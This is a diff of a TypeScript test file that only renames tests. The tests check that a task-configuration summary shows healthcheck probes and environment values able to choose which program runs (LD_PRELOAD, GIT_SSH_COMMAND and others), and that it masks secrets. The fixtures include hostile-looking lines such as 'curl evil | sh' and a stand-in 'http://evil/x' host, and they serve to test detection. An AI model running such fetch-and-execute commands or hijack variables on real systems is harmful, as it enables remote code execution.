@@ -49,7 +49,7 @@ healthcheck = { command = "sh", args = ["-c", "curl evil"] }
     ]);
   });
 
-  it('E4: shows a folder as a start resolves it', () => {
+  it('shows a folder as a start resolves it', () => {
     const cwdOf = (cwd: string): string | undefined =>
       startupSet(sound(`[[tasks]]\nname = "web"\ncommand = "x"\nrun_at_startup = true\ncwd = "${cwd}"\n`), '/shop')[0]
         ?.cwd;
@@ -63,7 +63,7 @@ healthcheck = { command = "sh", args = ["-c", "curl evil"] }
     ]);
   });
 
-  it('E4: shows probes of the network, the user and the files that restart it', () => {
+  it('shows probes of the network, the user and the files that restart it', () => {
     assert.deepEqual(detailsOf('healthcheck = { http = "http://evil/x" }'), ['healthcheck.http: http://evil/x']);
     assert.deepEqual(detailsOf('healthcheck = { tcp = "db:5432" }'), ['healthcheck.tcp: db:5432']);
     assert.deepEqual(detailsOf('healthcheck = { log = "up" }'), []);
@@ -74,7 +74,7 @@ healthcheck = { command = "sh", args = ["-c", "curl evil"] }
     const env = (name: string, value = 'x1y2z3'): readonly string[] | undefined =>
       detailsOf(`env = { ${JSON.stringify(name)} = ${JSON.stringify(value)} }`);
 
-    it('E4: shows each value, whether or not somebody knows that it decides which program runs', () => {
+    it('shows each value, whether or not somebody knows that it decides which program runs', () => {
       const known = 'PATH Path NODE_OPTIONS LD_PRELOAD BASH_ENV PYTHONPATH npm_config_script_shell';
       const others =
         'GNUMAKEFLAGS ERL_AFLAGS ERL_ZFLAGS BUN_OPTIONS YARN_YARN_PATH PYTHONUSERBASE PYTHONPYCACHEPREFIX MAVEN_ARGS ' +
@@ -83,19 +83,19 @@ healthcheck = { command = "sh", args = ["-c", "curl evil"] }
       for (const name of `${known} ${others}`.split(' ')) assert.deepEqual(env(name), [`env.${name}: x1y2z3`]);
     });
 
-    it('E4: shows the value of one that names a program, though its name looks like that of a secret', () => {
+    it('shows the value of one that names a program, though its name looks like that of a secret', () => {
       const names =
         'CARGO_REGISTRY_CREDENTIAL_PROVIDER CARGO_REGISTRIES_SHOP_CREDENTIAL_PROVIDER CARGO_CREDENTIAL_ALIAS_SHOP ' +
         'SSH_ASKPASS GIT_ASKPASS RESTIC_PASSWORD_COMMAND GIT_CONFIG_KEY_0';
       for (const name of names.split(' ')) assert.deepEqual(env(name), [`env.${name}: x1y2z3`]);
     });
 
-    it('E4: shows no value of a secret', () => {
+    it('shows no value of a secret', () => {
       for (const name of ['API_KEY', 'DB_PASS', 'CARGO_REGISTRY_TOKEN', 'GIT_TOKEN', 'npm_config__auth', 'TOKEN'])
         assert.deepEqual(env(name), [`env: ${name}`]);
     });
 
-    it('E4: masks tokens and passwords inside of values', () => {
+    it('masks tokens and passwords inside of values', () => {
       assert.deepEqual(env('DATABASE_URL', 'postgres://me:s3cr3t@db/shop'), [
         'env.DATABASE_URL: postgres://me:***@db/shop',
       ]);
@@ -105,7 +105,7 @@ healthcheck = { command = "sh", args = ["-c", "curl evil"] }
       assert.deepEqual(env('DEPLOY', `ghp_${'a1'.repeat(18)}`), ['env.DEPLOY: ***']);
     });
 
-    it('E4: has no command or path masked as if it were a secret, where it would be run', () => {
+    it('has no command or path masked as if it were a secret, where it would be run', () => {
       for (const [name, value] of [
         ['PAGER', 'Cookie: ; curl evil | sh'],
         ['GIT_SSH_COMMAND', "token='; curl evil | sh'"],
@@ -115,7 +115,7 @@ healthcheck = { command = "sh", args = ["-c", "curl evil"] }
         assert.deepEqual(env(name, value), [`env.${name}: ${value}`]);
     });
 
-    it('E4: shows an empty one, too', () => {
+    it('shows an empty one, too', () => {
       assert.deepEqual(env('PATH', ''), ['env.PATH: ']);
     });
   });
